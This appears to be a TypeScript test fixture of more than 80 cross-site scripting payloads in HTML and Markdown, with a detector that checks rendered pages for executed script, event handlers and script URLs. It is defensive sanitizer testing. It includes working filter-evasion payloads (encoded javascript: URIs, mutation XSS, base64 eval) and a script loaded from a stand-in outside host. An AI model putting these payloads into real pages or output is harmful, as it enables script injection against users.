// Payloads that have run script in HTML sanitizers, Markdown renderers or browsers: each sets
// window.__xss when it runs. Drawn from the OWASP XSS filter evasion cheat sheet
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and
// DOMPurify's own test vectors (https://github.com/cure53/DOMPurify/tree/main/test).

const run = (tag: string) => `window.__xss='${tag}'`;

const HTML = [
	`<script>${run('script')}</script>`,
	`<SCRIPT SRC=//outside.example/x.js></SCRIPT>`,
	`<img src=x onerror="${run('img')}">`,
	`<IMG SRC=x ONERROR=${run('img-upper')}>`,
	`<img src="x" onerror="${run('img-quoted')}"/>`,
	`<img srcset="x" onerror="${run('srcset')}">`,
	`<picture><source srcset="x"><img src="x" onerror="${run('picture')}"></picture>`,
	`<svg onload="${run('svg')}"><circle r="5"/></svg>`,
	`<svg><script>${run('svg-script')}</script></svg>`,
	`<svg><a xlink:href="javascript:${run('svg-a')}"><text y="20">svg link</text></a></svg>`,
	`<svg><animate onbegin="${run('animate')}" attributeName="x" dur="1s"/></svg>`,
	`<svg><set attributeName="onload" to="${run('set')}"/></svg>`,
	`<math><mi xlink:href="javascript:${run('math')}">m</mi></math>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="${run('mxss')}"></style></mglyph></table></mtext></math>`,
	`<noscript><p title="</noscript><img src=x onerror=${run('noscript')}>"></noscript>`,
	`<iframe src="javascript:parent.${run('iframe')}"></iframe>`,
	`<iframe srcdoc="<script>parent.${run('srcdoc')}</script>"></iframe>`,
	`<object data="javascript:${run('object')}"></object>`,
	`<embed src="javascript:${run('embed')}">`,
	`<a href="javascript:${run('a')}">a</a>`,
	`<a href="JaVaScRiPt:${run('a-case')}">a</a>`,
	`<a href="&#106;avascript:${run('a-entity')}">a</a>`,
	`<a href="&#x6A;&#x61;&#x76;&#x61;script:${run('a-hex')}">a</a>`,
	`<a href=" javascript:${run('a-space')}">a</a>`,
	`<a href="java\tscript:${run('a-tab')}">a</a>`,
	`<a href="vbscript:msgbox(1)">vb</a>`,
	`<a href="data:text/html,<script>parent.${run('a-data')}</script>">data</a>`,
	`<a href="#" onclick="${run('onclick')}">click</a>`,
	`<div onpointerover="${run('pointer')}">hover me</div>`,
	`<body onload="${run('body')}">`,
	`<details open ontoggle="${run('details')}"><summary>s</summary></details>`,
	`<input autofocus onfocus="${run('input')}">`,
	`<select autofocus onfocus="${run('select')}"></select>`,
	`<textarea autofocus onfocus="${run('textarea')}"></textarea>`,
	`<video><source onerror="${run('video')}"></video>`,
	`<audio src=x onerror="${run('audio')}"></audio>`,
	`<form action="javascript:${run('form')}"><button>go</button></form>`,
	`<button formaction="javascript:${run('formaction')}">go</button>`,
	`<marquee onstart="${run('marquee')}">m</marquee>`,
	`<meta http-equiv="refresh" content="0;url=javascript:${run('meta')}">`,
	`<base href="javascript:${run('base')}/">`,
	`<style>@import 'javascript:${run('style')}';</style>`,
	`<div style="background:url(javascript:${run('style-attr')})">styled</div>`,
	`<template><img src=x onerror="${run('template')}"></template>`,
	`<img src=x:x onerror=eval(atob('d2luZG93Ll9feHNzPSdiNjQnIA=='))>`,
	`<a href="https://outside.example" target="_blank" rel="opener">opener</a>`
];

const MARKDOWN = [
	`[md link](javascript:${run('md')})`,
	`[md link](JAVASCRIPT:${run('md-case')})`,
	`[md link](javascript&#58;${run('md-entity')})`,
	`[md link](<javascript:${run('md-angle')}>)`,
	`![md image](javascript:${run('md-img')})`,
	`![md image](x" onerror="${run('md-img-attr')})`,
	`[ref link][evil]\n\n[evil]: javascript:${run('md-ref')}`,
	`<javascript:${run('autolink')}>`,
	`[md data](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9J2InPC9zY3JpcHQ+)`,
	'`<img src=x onerror="window.__xss=\'code\'">`',
	'```html\n<img src=x onerror="window.__xss=\'fence\'">\n```',
	`**bold <img src=x onerror="${run('in-bold')}">**`,
	`| table | <img src=x onerror="${run('table')}"> |\n| --- | --- |\n| a | b |`,
	`- [ ] task <img src=x onerror="${run('task')}">`
];

/** Every payload, alone and inside a quote: more than 80 in all. */
export const XSS_PAYLOADS: string[] = [
	...HTML,
	...MARKDOWN,
	...HTML.map((p) => `> quoted: ${p}`),
	...MARKDOWN.slice(0, 6).map((p) => `1. listed ${p}`)
];

/**
 * What a page must not hold once payloads are drawn: a payload that ran, an event handler or a
 * script URL anywhere in `main`, or an element content may not make inside drawn Markdown. Empty
 * when the page is clean. (A string, to be evaluated in the page.)
 */
export const SCRIPT_SURFACE = `(root) => {
	const found = [];
	if (window.__xss) found.push('ran: ' + window.__xss);
	for (const el of root.querySelectorAll('*')) {
		for (const attr of el.attributes) {
			if (/^on/i.test(attr.name)) found.push(el.tagName + ' ' + attr.name);
			if (/^\\s*(javascript|vbscript|data:text)/i.test(attr.value) && /href|src|action|data/i.test(attr.name))
				found.push(el.tagName + ' ' + attr.name + '=' + attr.value.slice(0, 30));
		}
		if (/^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|BASE|META|STYLE|TEMPLATE|INPUT|SELECT|TEXTAREA|BUTTON|SVG|MATH)$/i.test(el.tagName) && el.closest('.markdown') && !el.closest('.code-bar'))
			found.push('element ' + el.tagName + ' in a reply');
	}
	return found;
}`;
